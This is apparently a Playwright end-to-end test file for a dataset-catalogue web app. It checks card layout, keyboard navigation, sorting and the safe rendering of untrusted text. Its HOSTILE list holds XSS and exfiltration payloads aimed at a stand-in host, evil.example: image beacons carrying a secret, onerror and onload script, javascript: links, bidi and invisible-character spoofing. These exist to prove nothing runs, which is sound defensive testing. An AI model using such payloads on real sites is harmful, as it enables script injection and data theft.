"""Cards, whatever they hold: one height, what decides never cut, opened and sorted by keys and mouse."""

import json
import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Locator, Page, expect

from dataferry.core.job_types import JobView
from dataferry.library.card_views import DatasetCard
from dataferry.library.licence_views import licence_verdict
from dataferry.library.verdict_views import GateVerdict, RoomVerdict, Verdict
from tests.e2e.accessibility import check_everywhere
from tests.e2e.conftest import register
from tests.e2e.staged import answer_with, card, job, search, stage, text
from tests.support.server import Server

pytestmark = pytest.mark.e2e
LONG = (
    "A title that goes on and on about the measurements of everything in every river of the land, volume two"
)
REF = "huggingface:an-organisation-of-that-name/measurements-of-everything-in-every-river-of-the-land-v2.1"
PROBLEM = {
    "code": "checksum_mismatch",
    "detail": "the bytes of data/train-00000-of-00128.parquet are not those that the source promises.",
    "next_step": "Try again; if it stays so, tell the people who publish the dataset what you have seen.",
}
FACTS = {"license": "CC-BY-NC-ND-4.0", "gated": True, "file_count": 100_000, "more_files": True}
RUNNING = {
    "progress": {"phase": "fetching", "bytes_done": 1_200_000, "bytes_total": 4_600_000, "files_done": 1}
}


def kinds() -> tuple[list[DatasetCard], list[JobView]]:
    """A card of each kind that there is."""
    cards = [
        card("kaggle:a/plain", "Plain"),
        card("kaggle:a/nothing", "Nothing known", description="", why=None, license=None, size_bytes=None),
        card(REF, LONG, **FACTS),
        card("kaggle:a/huge", "Larger than any disk", size_bytes=9_000_000_000_000_000, license=None),
        card("kaggle:a/rtl", "مجموعة بيانات مرض السكري لعام ٢٠٢٤", description="وصف قصير"),
        card("kaggle:a/emoji", "🩺📊 Health 👩🏽‍⚕️ data", description="🩺" * 200),
        card(
            "kaggle:a/one-word", "W" * 300, description="x" * 900, license="Other (specified in description)"
        ),
        card(
            "builtin:iris",
            "Iris",
            downloads=0,
            updated_at=None,
            formats=(),
            why="exact name · built-in sample",
        ),
    ]
    jobs = []
    for state, fields in {
        "queued": {},
        "running": RUNNING | {"note": "gauge.bin changed at its source; it is fetched anew."},
        "verifying": RUNNING,
        "waiting": RUNNING | {"problem": {"code": "source_rate_limited", "detail": "Kaggle's limit."}},
        "paused": RUNNING,
        "failed": {"problem": PROBLEM},
        "cancelled": {},
        "succeeded": {"file_path": "/store/" + "deep/" * 30 + "rivers/0123456789abcdef"},
    }.items():
        one = card(f"kaggle:a/{state}", f"{state.title()} {LONG}", **FACTS)
        note = fields.pop("note", None)
        if note:
            fields["progress"] = fields["progress"] | {"note": note}
        cards.append(one)
        jobs.append(job(one, state, **fields))
    return cards, jobs


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with Server(tmp_path_factory.mktemp("cards") / "data") as server:
        yield server


@pytest.fixture(scope="module")
def signed_in(browser: Browser, server: Server) -> Iterator[Page]:
    context = browser.new_context(viewport={"width": 1440, "height": 900}, bypass_csp=True)
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    register(page, server)
    yield page
    context.close()
    assert errors == []


@pytest.fixture
def page(signed_in: Page) -> Iterator[Page]:
    signed_in.set_viewport_size({"width": 1440, "height": 900})
    yield signed_in
    signed_in.unroute_all()


EVIL = "http://evil.example"
TAGS = "".join(chr(0xE0000 + ord(letter)) for letter in "delete all")
#: What a model or a hub might say that wants to be fetched, to run, to hide or to be taken for ours.
HOSTILE = (
    f"![p]({EVIL}/p.png?said=hunter2)",
    f"![p][r]\n\n[r]: {EVIL}/q.png?said=hunter2",
    f'<img src="{EVIL}/i.png?said=hunter2" onerror="window.ran = 1">',
    f'<script src="{EVIL}/s.js"></script><script>window.ran = 1</script>',
    f'<link rel="stylesheet" href="{EVIL}/c.css"><iframe src="{EVIL}/f"></iframe><video poster="{EVIL}/v">',
    f'<form action="{EVIL}"><button>Download</button></form>',
    "[x](javascript:window.ran=1) <javascript:window.ran=1> [x](data:text/html,<svg onload=window.ran=1>)",
    "[Download](/api/datasets/download-dataset) [x](//evil.example/) [x](https://good.org@evil.example/)",
    f"<svg onload=window.ran=1><use href='{EVIL}/u.svg'></svg> <a href='{EVIL}/?said=hunter2'>more</a>",
    f"`\x1b[2J` a\u202efdp.exe b\u200bc {TAGS} 😀\U000e0115\U000e0116 \ufeff",
    f"| a\u2066 | {TAGS} |\n|---|---|\n| \x9b31m | ![p]({EVIL}/t.png) |",
    f"```\u202e\ncurl x {TAGS}\n```",
    "می\u200cخواهم क्\u200dष 👩\u200d👧 ❤\ufe0f\u200d🔥",
)
#: Every text of the page, shown or read out, that holds a character which nobody sees; but the last line's.
UNSEEN = """() => {
  const hidden = /[\\p{Cf}\\p{Cc}\\u{fe00}-\\u{fe0f}\\u{e0100}-\\u{e01ef}]/u;
  const kept = /\\t|\\n|\\r|(?<=[\\u0600-\\u0dff])[\\u200c\\u200d]|(?<=\\p{So})\\ufe0f?\\u200d(?=\\p{So})/gu;
  const texts = [...document.querySelectorAll("body *")].flatMap((one) => [
    ...["title", "aria-label", "alt", "placeholder"].map((name) => one.getAttribute(name) ?? ""),
    ...[...one.childNodes].filter((node) => node.nodeType === 3).map((node) => node.data),
  ]);
  return [document.title, ...texts].filter((text) => hidden.test(text.replace(kept, "")));
}"""


def test_hostile_texts_fetch_nothing_run_nothing_and_lead_nowhere_unasked(page: Page, server: Server) -> None:
    """Without the content policy, which would stop most of it too."""
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    cards = [
        card(f"kaggle:a/hostile{number}", words, description=words, license=words[:60], why=words)
        for number, words in enumerate(HOSTILE)
    ]
    words = "\n\n".join((*HOSTILE, f"[our page]({EVIL}/open?said=hunter2)"))
    stage(page, server, [search(cards, f"x\u202e{TAGS}"), text(words)], question=f"what{TAGS} is \u202eit?")
    expect(page.get_by_test_id("dataset-card")).to_have_count(5)
    answer = page.get_by_role("article", name="Answer")
    expect(answer).to_contain_text(
        "a[U+202E]fdp.exe b[U+200B]c [10 hidden characters] 😀[2 hidden characters]"
    )
    expect(answer).to_contain_text("می\u200cخواهم क्\u200dष 👩\u200d👧 ❤\ufe0f\u200d🔥")
    assert page.evaluate(UNSEEN) == []
    prose = answer.locator(".prose-answer")
    assert prose.locator("a, img, script, iframe, form, video, svg use, [href], [src], [style]").count() == 0
    prose.get_by_role("button", name="our page").click()
    notice = page.get_by_role("dialog", name="Open this link?")
    expect(notice.get_by_text("evil.example", exact=True)).to_be_visible()
    expect(notice.get_by_text(f"{EVIL}/open?said=hunter2")).to_be_visible()
    notice.get_by_role("button", name="Cancel").click()
    expect(notice).to_have_count(0)
    assert page.evaluate("window.ran") is None
    assert [url for url in asked if not url.startswith((server.address, "data:", "blob:"))] == []


def parts_of_five(cards: list[DatasetCard]) -> list[dict[str, object]]:
    """Searches of five each, so that all of them are cards."""
    return [search(cards[at : at + 5], f"part {at}") for at in range(0, len(cards), 5)]


def test_every_kind_of_card_is_low_and_shows_what_decides(page: Page, server: Server) -> None:
    cards, jobs = kinds()
    here = {
        "downloaded": True,
        "grade": "publisher",
        "snippet": "load('it')",
        "local_path": jobs[-1].file_path,
    }
    answer_with(page, r"/api/datasets/kaggle%3Aa~succeeded", json.dumps(here))
    stage(page, server, parts_of_five(cards), jobs=jobs)
    shown = page.get_by_test_id("dataset-card")
    expect(shown).to_have_count(len(cards))
    expect(page.get_by_role("button", name="Code")).to_be_visible()
    heights = {cards[n].ref: height(shown.nth(n)) for n in range(len(cards))}
    assert max(heights.values()) <= 96, heights

    # Buttons and checkboxes are each in one column, at one height in their card.
    buttons = {
        place(one, one.locator("[data-download], a[aria-label^='Open'], button:has-text('Cancel')").last)
        for one in shown.all()
    }
    assert len(buttons) == 1, buttons
    boxes = {
        place(one, one.get_by_role("checkbox")) for one in shown.all() if one.get_by_role("checkbox").count()
    }
    assert len(boxes) == 1, boxes

    # Nothing of the licence, the size and the end of a ref or path is cut.
    closed = shown.filter(has_text="CC BY-NC-ND 4.0").all()
    assert len(closed) > 5
    for one in closed:
        assert is_whole(one, "no commercial use")
    assert is_whole(shown.nth(2), "-land-v2.1")
    assert is_whole(shown.last, "/0123456789abcdef")
    # A count stands once, in one spelling.
    assert shown.first.inner_text().count("81") == 1
    check_everywhere(page, "every kind of card")


def test_what_is_cut_is_shown_on_demand(page: Page, server: Server) -> None:
    cards, jobs = kinds()
    stage(page, server, parts_of_five(cards), jobs=jobs)
    failed = page.locator('[data-card="kaggle:a/failed"]')
    low = height(failed)
    failed.get_by_role("button", name=re.compile("^More about")).click()
    assert height(failed) > low
    assert is_whole(failed, "what you have seen.")
    failed.get_by_role("button", name=re.compile("^Less about")).click()
    assert height(failed) == low


def test_more_opens_the_verdict_by_the_keyboard(page: Page, server: Server) -> None:
    verdict = Verdict(
        licence=licence_verdict("cc-by-nc-4.0"),
        gate=GateVerdict(
            state="terms", words="Its terms must be accepted first.", url="https://example.org/x"
        ),
        room=RoomVerdict(
            download_bytes=9, needed_bytes=9, peak_bytes=9, free_bytes=99, fits=True, words="9 B: it fits."
        ),
    )
    answer_with(page, r"/api/datasets/kaggle%3Aa~plain/verdict", verdict.model_dump_json())
    stage(page, server, [search([card("kaggle:a/plain", "Plain", license="CC-BY-NC-4.0")], "plain")])
    page.locator('[data-card="kaggle:a/plain"]').focus()
    page.keyboard.press("Enter")
    told = page.get_by_test_id("verdict")
    expect(told.get_by_text("the text does not allow it")).to_be_visible()
    expect(told.get_by_text("9 B: it fits.")).to_be_visible()
    expect(told.get_by_role("link", name="Its text")).to_be_visible()
    check_everywhere(page, "verdict")


def test_keys_walk_open_and_download(page: Page, server: Server) -> None:
    cards, _jobs = kinds()
    here = card("kaggle:a/here", "Here", local_status="downloaded")
    answer_with(page, r"/api/datasets/kaggle%3Aa~here$", '{"downloaded": true}')
    stage(page, server, [search([cards[0], here, cards[2]])])
    expect(page.get_by_test_id("dataset-card")).to_have_count(3)
    page.keyboard.press("j")
    expect(page.locator('[data-card="kaggle:a/plain"]')).to_be_focused()
    # On a checkbox too, where no letter is text.
    page.get_by_role("checkbox", name="Select Plain").focus()
    page.keyboard.press("j")
    expect(page.locator('[data-card="kaggle:a/here"]')).to_be_focused()
    page.keyboard.press("k")
    with page.expect_request(re.compile("/api/datasets/download/kaggle")):
        page.keyboard.press("d")
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile("/library/kaggle(:|%3A)a~here"))


def test_results_are_sorted_as_cards_and_as_a_table(page: Page, server: Server) -> None:
    sizes = (700, None, 30, 9_000_000, 4_000, 55, 1)
    cards = [
        card(f"kaggle:a/set-{n}", f"Set {n}", size_bytes=size, license=("MIT", None, "CC0-1.0")[n % 3])
        for n, size in enumerate(sizes)
    ]
    stage(page, server, [search(cards)])
    order = page.get_by_label("Sort results")
    titles = page.get_by_test_id("dataset-card").get_by_role("heading")
    expect(titles).to_have_text(["Set 0", "Set 1", "Set 2", "Set 3", "Set 4"])
    order.select_option("Smallest first")
    expect(titles).to_have_text(["Set 6", "Set 2", "Set 5", "Set 0", "Set 4"])
    # "The first one" is what was ranked first, wherever it stands now: it bears that number.
    expect(page.locator('[data-card="kaggle:a/set-0"]')).to_contain_text("Number 1")
    order.select_option("Largest first")
    expect(titles).to_have_text(["Set 3", "Set 4", "Set 0", "Set 5", "Set 2"])
    page.get_by_role("button", name="Show all 7").click()
    rows = page.locator("tbody tr span[dir=auto]")
    expect(rows).to_have_text(["Set 3", "Set 4", "Set 0", "Set 5", "Set 2", "Set 6", "Set 1"])
    page.get_by_role("button", name="Licence").click()
    expect(page.get_by_role("columnheader", name="Licence")).to_have_attribute("aria-sort", "ascending")
    expect(rows.first).to_have_text("Set 2")
    page.get_by_label("Filter results").fill("mit")
    expect(rows).to_have_text(["Set 0", "Set 3", "Set 6"])
    check_everywhere(page, "the table of results")


def height(one: Locator) -> float:
    box = one.bounding_box()
    assert box is not None
    return box["height"]


def place(outer: Locator, inner: Locator) -> tuple[int, int, int]:
    """Where ``inner`` stands in ``outer``, from its upper left corner, and how wide it is."""
    a, b = outer.bounding_box(), inner.bounding_box()
    assert a is not None
    assert b is not None
    return round(b["x"] - a["x"]), round(b["y"] - a["y"]), round(b["width"])


def is_whole(one: Locator, words: str) -> bool:
    """Whether ``words`` are shown whole: no element of the card cuts them off."""
    found: bool = one.evaluate(
        """(card, words) => {
            const walk = document.createTreeWalker(card, NodeFilter.SHOW_TEXT);
            for (let node = walk.nextNode(); node; node = walk.nextNode()) {
                const at = node.data.indexOf(words);
                if (at < 0) continue;
                const range = document.createRange();
                range.setStart(node, at);
                range.setEnd(node, at + words.length);
                const own = range.getBoundingClientRect();
                for (let e = node.parentElement; e && e !== card.parentElement; e = e.parentElement) {
                    const box = e.getBoundingClientRect();
                    if (own.right > box.right + 1 || own.bottom > box.bottom + 1) return false;
                }
                return own.width > 0;
            }
            return false;
        }""",
        words,
    )
    return found
